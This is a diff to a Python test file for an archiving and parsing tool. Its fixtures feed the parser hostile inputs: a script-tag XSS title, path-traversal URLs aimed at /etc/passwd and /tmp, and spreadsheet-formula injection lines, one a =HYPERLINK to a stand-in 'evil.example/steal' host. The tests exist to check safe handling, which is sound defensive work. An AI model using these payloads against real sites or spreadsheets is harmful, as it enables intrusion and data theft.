@@ -41,14 +41,28 @@ HOSTILE = {
     KF + "encrypted.pdf": ("application/pdf", encrypted_pdf(), "encrypted PDF"),
     KF + "really-html.pdf": ("application/pdf", b"<html><body>Not a PDF</body></html>", "not a PDF"),
     KF + "zero-bytes": ("text/html", b"", "empty body"),
-    "https://www.gov.uk/api/content/government/news/bad-bytes": ("application/json", b'{"base_path": "/x", "title": "\xff\xfe"}', "NotGovukContent"),
-    "https://www.gov.uk/api/content/government/news/not-govuk": ("application/json", json.dumps({"results": [1, 2]}).encode(), "not a GOV.UK content item"),
-    KF + "invalid-utf8": ("text/html; charset=utf-8", b"<html><head><title>Caf\xe9 \xff leadership</title></head><body><p>Board \xff text.</p></body></html>", None),
-    KF + "nested-tags": ("text/html", b"<html><body>" + b"<div>" * 1_850_000 + b"deep" + b"</div>" * 1_850_000 + b"</body></html>", None),
+    "https://www.gov.uk/api/content/government/news/bad-bytes": ("application/json",
+                                                                 b'{"base_path": "/x", "title": "\xff\xfe"}',
+                                                                 "NotGovukContent"),
+    "https://www.gov.uk/api/content/government/news/not-govuk": ("application/json",
+                                                                 json.dumps({"results": [1, 2]}).encode(),
+                                                                 "not a GOV.UK content item"),
+    KF + "invalid-utf8": ("text/html; charset=utf-8",
+                          b"<html><head><title>Caf\xe9 \xff leadership</title></head><body><p>Board \xff "
+                          b"text.</p></body></html>", None),
+    KF + "nested-tags": ("text/html",
+                         b"<html><body>" + b"<div>" * 1_850_000 + b"deep" + b"</div>" * 1_850_000 + b"</body></html>",
+                         None),
     KF + "nested-inline-tags": ("text/html", deeply_nested_tags(200_000, b"b"), None),
-    KF + "script-title": ("text/html", b"<html><head><title><script>alert(1)</script> Boards</title></head><body><main><h1>&lt;script&gt;alert(1)&lt;/script&gt; Boards</h1><p>Text.</p></main></body></html>", None),
-    KF + "..%2f..%2f..%2fetc%2fpasswd": ("text/html", b"<html><body><main><h1>Traversal</h1></main></body></html>", None),
-    "https://www.kingsfund.org.uk/../../../../tmp/escape": ("text/html", b"<html><body><main><h1>Dots</h1></main></body></html>", None),
+    KF + "script-title": ("text/html",
+                          b"<html><head><title><script>alert(1)</script> "
+                          b"Boards</title></head><body><main><h1>&lt;script&gt;alert(1)&lt;/script&gt; "
+                          b"Boards</h1><p>Text.</p></main></body></html>", None),
+    KF + "..%2f..%2f..%2fetc%2fpasswd": ("text/html", b"<html><body><main><h1>Traversal</h1></main></body></html>",
+                                         None),
+    "https://www.kingsfund.org.uk/../../../../tmp/escape": ("text/html",
+                                                            b"<html><body><main><h1>Dots</h1></main></body></html>",
+                                                            None),
 }
 
 
@@ -63,13 +77,17 @@ def hostile_home(tmp_path_factory):
     con.close()
     with ArchiveWriter(home / "archive", prefix="hostile") as writer:
         for url, (ctype, body, _) in HOSTILE.items():
-            writer.write_response(url, body, headers=[("Content-Type", ctype)], fetched_at=WHEN, source="kingsfund" if "kingsfund" in url else None)
+            writer.write_response(url, body, headers=[("Content-Type", ctype)], fetched_at=WHEN,
+                                  source="kingsfund" if "kingsfund" in url else None)
     # a WARC file whose last record is cut short
     cut = home / "archive" / "cut-short.warc.gz"
     with ArchiveWriter(home / "tmp-cut", prefix="cut") as writer:
-        writer.write_response(KF + "whole-record", b"<html><body><main><h1>Whole</h1></main></body></html>", headers=[("Content-Type", "text/html")], fetched_at=WHEN)
+        writer.write_response(KF + "whole-record", b"<html><body><main><h1>Whole</h1></main></body></html>",
+                              headers=[("Content-Type", "text/html")], fetched_at=WHEN)
         # random bytes do not compress, so cutting 2,000 bytes cuts only this record
-        writer.write_response(KF + "cut-record", b"<html><body>" + os.urandom(50_000).hex().encode() + b"</body></html>", headers=[("Content-Type", "text/html")], fetched_at=WHEN)
+        writer.write_response(KF + "cut-record",
+                              b"<html><body>" + os.urandom(50_000).hex().encode() + b"</body></html>",
+                              headers=[("Content-Type", "text/html")], fetched_at=WHEN)
     data = writer.path.read_bytes()
     cut.write_bytes(data[: len(data) - 2000])
     # a correction naming a review that does not exist
@@ -108,7 +126,8 @@ def test_invalid_utf8_and_nested_tags_and_script_titles_parse_safely(hostile_hom
 
 def test_a_record_cut_short_is_reported_and_what_came_before_it_is_kept(hostile_home):
     home = hostile_home[0]
-    [(error,)] = rows(home, "SELECT error FROM processing_errors WHERE url = 'warc:cut-short.warc.gz' AND stage = 'index'")
+    [(error,)] = rows(home,
+                      "SELECT error FROM processing_errors WHERE url = 'warc:cut-short.warc.gz' AND stage = 'index'")
     assert "fails its digest check" in error and "1 records before it were indexed" in error
     assert rows(home, "SELECT title FROM publications WHERE url = ?", [KF + "whole-record"]) == [("Whole",)]
 
@@ -127,7 +146,8 @@ def test_traversal_urls_never_escape_the_archive(hostile_home, tmp_path):
 
 def test_a_correction_with_an_unknown_review_is_reported(hostile_home):
     home = hostile_home[0]
-    assert rows(home, "SELECT problem FROM corrections WHERE file = 'bad.csv'") == [("unknown review_id 'not-a-review'",)]
+    assert rows(home,
+                "SELECT problem FROM corrections WHERE file = 'bad.csv'") == [("unknown review_id 'not-a-review'",)]
 
 
 def test_a_pdf_without_a_text_layer_is_recorded_as_such(tmp_path):
@@ -148,7 +168,8 @@ def test_a_pdf_without_a_text_layer_is_recorded_as_such(tmp_path):
 
 FORMULA_PAGE = """<html><head><title>Kark review: where things stand</title></head><body><main>
 <h1>Kark review: where things stand</h1>
-<p>=HYPERLINK("https://evil.example/steal","open") Recommendation 2 of the Kark review is being implemented by NHS England.</p>
+<p>=HYPERLINK("https://evil.example/steal","open") \
+Recommendation 2 of the Kark review is being implemented by NHS England.</p>
 <p>+Recommendation 3 of the Kark review has been implemented by NHS England.</p>
 <p>-Recommendation 4 of the Kark review has been implemented by NHS England.</p>
 <p>@SUM(1+1) Recommendation 5 of the Kark review is being implemented by NHS England.</p>
